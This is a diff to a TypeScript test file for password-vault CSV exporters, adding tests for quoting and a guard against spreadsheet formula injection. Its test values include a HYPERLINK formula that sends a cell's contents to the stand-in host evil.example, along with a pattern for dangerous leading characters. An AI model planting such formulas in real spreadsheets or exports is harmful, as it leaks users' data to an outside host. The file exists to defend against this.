@@ -1,7 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { exportBitwardenCsv } from './bitwarden-csv';
-import { csvField, csvQuoted, csvRecords } from './csv';
+import { csvCell, csvRecords } from './csv';
 import { exportKeepassCsv } from './keepass-csv';
 import { exportOnePasswordCsv } from './onepassword-csv';
 import { ENTRY, NOW, parseCsv, SECRET, TRICKY } from './test-fixtures';
@@ -14,19 +14,37 @@ describe('csv quoting', () => {
       fc.property(fc.array(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 4 }), (rows) => {
         // A lone empty field is an empty line, which readers skip; real rows have several fields.
         const real = rows.map((r) => (r.length === 1 ? [...r, 'x'] : r));
-        expect(parseCsv(csvRecords(real, csvQuoted))).toEqual(real);
-        expect(parseCsv(csvRecords(real, csvField))).toEqual(real);
+        // The formula guard adds a ' before a dangerous start, and nothing else.
+        const read = real.map((row) => row.map((cell) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell)));
+        expect(parseCsv(csvRecords(real, 'always'))).toEqual(read);
+        expect(parseCsv(csvRecords(real, 'when-needed'))).toEqual(read);
       }),
     );
   });
 
-  it('quotes only what needs it', () => {
-    expect(csvField('plain')).toBe('plain');
-    expect(csvField('a,b')).toBe('"a,b"');
-    expect(csvField('say "hi"')).toBe('"say ""hi"""');
-    expect(csvField('two\nlines')).toBe('"two\nlines"');
-    expect(csvField(' padded')).toBe('" padded"');
-    expect(csvField('#tag ü')).toBe('#tag ü');
+  it('quotes only what needs it, or everything', () => {
+    const field = (value: string) => csvCell(value, 'when-needed');
+    expect(field('plain')).toBe('plain');
+    expect(field('a,b')).toBe('"a,b"');
+    expect(field('say "hi"')).toBe('"say ""hi"""');
+    expect(field('two\nlines')).toBe('"two\nlines"');
+    expect(field(' padded')).toBe('" padded"');
+    expect(field('#tag ü')).toBe('#tag ü');
+    expect(csvCell('plain', 'always')).toBe('"plain"');
+  });
+
+  it("neutralises a cell a spreadsheet would run as a formula (OWASP): a leading ' and quotes", () => {
+    for (const quoting of ['always', 'when-needed'] as const) {
+      expect(csvCell('=HYPERLINK("https://evil.example/?"&A1)', quoting)).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1)"`);
+      expect(csvCell('+1+1', quoting)).toBe(`"'+1+1"`);
+      expect(csvCell('-2+3', quoting)).toBe(`"'-2+3"`);
+      expect(csvCell('@SUM(A1)', quoting)).toBe(`"'@SUM(A1)"`);
+      expect(csvCell('\t=1', quoting)).toBe(`"'\t=1"`);
+      expect(csvCell('\r=1', quoting)).toBe(`"'\r=1"`);
+    }
+    // Only the first character counts: inside a cell these are plain text.
+    expect(csvCell('a=b', 'when-needed')).toBe('a=b');
+    expect(csvCell('nightly-backup', 'when-needed')).toBe('nightly-backup');
   });
 });
 
@@ -126,5 +144,54 @@ describe('secret placement', () => {
     for (const csv of [exportKeepassCsv(ENTRY, { now: NOW }), exportBitwardenCsv(ENTRY, { now: NOW }), exportOnePasswordCsv(ENTRY, { now: NOW })]) {
       expect(csv.split(SECRET)).toHaveLength(2);
     }
+  });
+});
+
+/**
+ * What each importer reads, by its own column names (reference/formats.md): the parsed
+ * record mapped the way KeePassXC, Bitwarden and 1Password map their CSV columns.
+ */
+const IMPORTERS = {
+  keepass: { csv: exportKeepassCsv, username: 'Username', password: 'Password', title: 'Title', url: 'URL', notes: 'Notes' },
+  bitwarden: { csv: exportBitwardenCsv, username: 'login_username', password: 'login_password', title: 'name', url: 'login_uri', notes: 'notes' },
+  onepassword: { csv: exportOnePasswordCsv, username: 'username', password: 'password', title: 'title', url: 'website', notes: 'notes' },
+} as const;
+
+function imported(csv: string): Record<string, string> {
+  const [header, row, ...rest] = parseCsv(csv);
+  expect(rest).toEqual([]);
+  expect(row).toHaveLength(header!.length);
+  return Object.fromEntries(header!.map((name, i) => [name, row![i]!]));
+}
+
+describe('formula guard in every vault CSV', () => {
+  // The WHM user comes from the page, which is not trusted; a token name may start with "-".
+  const HOSTILE = { ...ENTRY, user: '=HYPERLINK("https://evil.example/?"&A1,"x")', name: '-nightly' };
+
+  for (const [format, importer] of Object.entries(IMPORTERS)) {
+    it(`${format}: the importer reads every field from its column, a formula as text starting with '`, () => {
+      const record = imported(importer.csv(HOSTILE, { now: NOW }));
+      expect(record[importer.username]).toBe(`'${HOSTILE.user}`);
+      expect(record[importer.password]).toBe(SECRET);
+      expect(record[importer.title]).toBe('WHM API token: -nightly @ whm01.example.com');
+      expect(record[importer.url]).toBe(HOSTILE.origin);
+      expect(record[importer.notes]).toMatch(/^WHM API token "-nightly" of WHM user =HYPERLINK/);
+      // No cell of the file starts with a formula character.
+      for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    });
+
+    it(`${format}: a WHM secret (upper-case letters and digits) always arrives unchanged`, () => {
+      fc.assert(
+        fc.property(fc.string({ unit: fc.constantFrom(...'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'), minLength: 32, maxLength: 32 }), (secret) => {
+          expect(imported(importer.csv({ ...ENTRY, secret }, { now: NOW }))[importer.password]).toBe(secret);
+        }),
+        { numRuns: 50 },
+      );
+    });
+  }
+
+  it('bitwarden: custom fields still split into name and value', () => {
+    const fields = imported(exportBitwardenCsv(HOSTILE, { now: NOW }))['fields']!;
+    expect(fields.split('\n')[0]).toBe('token_name: -nightly');
   });
 });
